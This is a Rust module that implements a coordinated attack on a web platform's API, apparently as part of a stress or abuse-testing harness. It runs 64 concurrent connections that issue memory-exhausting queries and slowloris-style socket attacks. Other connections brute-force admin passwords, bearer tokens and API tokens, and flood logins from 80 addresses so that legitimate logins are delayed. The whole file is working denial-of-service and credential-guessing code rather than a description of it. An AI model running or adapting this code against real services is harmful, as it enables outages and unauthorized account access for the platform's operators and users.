//! The kinds of attack. Each connection has one and repeats it; a refused request is sent again.

use std::sync::Arc;
use std::time::Duration;

use reqwest::{Client, RequestBuilder};
use serde_json::json;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::forms::Forms;
use super::{Him, client, sockets};

/// The number of the attacker's connections.
const CONNECTIONS: usize = 64;
/// The attacker waits long for responses, because they cost the platform memory.
const PATIENCE: Duration = Duration::from_secs(60);
/// The number of addresses from which the attacker guesses at the same time.
const ADDRESSES: u8 = 80;
/// A pause after an immediate refusal, so that the platform works and not this program.
const PAUSE: Duration = Duration::from_millis(5);

/// Runs all attacks until the process ends.
pub async fn attack(him: Him) {
    let him = Arc::new(him);
    let mut ways = JoinSet::new();
    for connection in 0..CONNECTIONS {
        let him = him.clone();
        ways.spawn(async move { way(&him, connection).await });
    }
    ways.join_all().await;
}

async fn way(him: &Him, connection: usize) {
    let api = Api {
        client: client(2, 1),
        base: format!("http://{}", him.server),
        key: &him.key,
    };
    match connection % 15 {
        0 => api.list(&aliases("message"), "limit=10").await,
        1 => {
            let all = "fields=all,message,response_body";
            api.list(all, "limit=0&sort=-message").await;
        }
        2 => api.list("fields=$key", &contains(250)).await,
        3 => api.list(&aliases("$key"), "limit=1000000&offset=1").await,
        4 => {
            let all = "fields=all,settings_args";
            let rest = "limit=0&sort=settings_args";
            api.table("tasks", &format!("{all}&{rest}")).await;
        }
        5 | 6 => {
            let forms = Forms::of(him, &api.client).await;
            forms.send_large(connection).await;
        }
        7 => Forms::of(him, &api.client).await.read_pages().await,
        8 => api.guess().await,
        9 => sockets::idle(him.server).await,
        10 => sockets::slow_heads(him.server).await,
        11 => sockets::slow_bodies(him.server, &him.key).await,
        13 => api.log_in(&him.password).await,
        // From all addresses, by one connection only: the others read nothing.
        14 if connection == 14 => api.guess_from_everywhere().await,
        _ => sockets::unread(him.server, &him.key).await,
    }
}

struct Api<'a> {
    client: Client,
    base: String,
    key: &'a str,
}

impl Api<'_> {
    async fn list(&self, fields: &str, rest: &str) {
        self.table("webhooks", &format!("{fields}&{rest}")).await;
    }

    async fn table(&self, table: &str, query: &str) {
        loop {
            let url = format!("{}/api/v4/{table}?{query}", self.base);
            send(self.client.get(url).bearer_auth(self.key)).await;
        }
    }

    /// Guesses passwords, session tokens and keys.
    async fn guess(&self) {
        for number in 0_u64.. {
            let system = format!("{}/api/v4/system", self.base);
            let guess = format!("{number:020x}");
            let request = match number % 4 {
                0 => self.client.get(system).basic_auth("admin", Some(guess)),
                1 => self.client.get(system).bearer_auth(guess),
                2 => self.client.get(system).header("x-yottabyte-token", guess),
                _ => login(&self.client, &self.base, "admin", &guess),
            };
            send(request).await;
        }
    }

    /// Logs the attacker in; each login is an occurrence for the attacker's webhooks.
    async fn log_in(&self, password: &str) {
        loop {
            send(login(&self.client, &self.base, "vera", password)).await;
        }
    }

    /// Sends passwords of names that nobody has, from many addresses at a time: the waiting checks
    /// delay those of everybody else.
    async fn guess_from_everywhere(&self) {
        let mut addresses = JoinSet::new();
        for address in 1..=ADDRESSES {
            let (client, base) = (client(3, address), self.base.clone());
            addresses.spawn(async move {
                for number in 0_u64.. {
                    let guess = format!("{address:02x}{number:018x}");
                    send(login(&client, &base, &guess, "guess")).await;
                }
            });
        }
        addresses.join_all().await;
    }
}

/// Logs in with a password.
pub(super) fn login(client: &Client, base: &str, user: &str, password: &str) -> RequestBuilder {
    let body = json!({"login": user, "password": password});
    let tokens = format!("{base}/api/sys/tokens");
    client.post(tokens).body(body.to_string())
}

/// Sends a request and reads the response, piece by piece.
pub(super) async fn send(request: RequestBuilder) {
    if let Ok(mut answer) = request.timeout(PATIENCE).send().await {
        let refused = !answer.status().is_success();
        while let Ok(Some(_)) = answer.chunk().await {}
        if !refused {
            return;
        }
    }
    sleep(PAUSE).await;
}

/// Returns one column under 199 names.
fn aliases(column: &str) -> String {
    let names: Vec<String> = (0..199).map(|n| format!("{column}%20as%20a{n}")).collect();
    format!("fields={}", names.join(","))
}

/// Returns searches that find nothing, so that all rows are read.
fn contains(terms: usize) -> String {
    let terms: Vec<String> = (0..terms)
        .map(|n| format!("message%20ct%20'ipsum%20x{n}'"))
        .collect();
    format!("filter={}&limit=1", terms.join("%20or%20"))
}
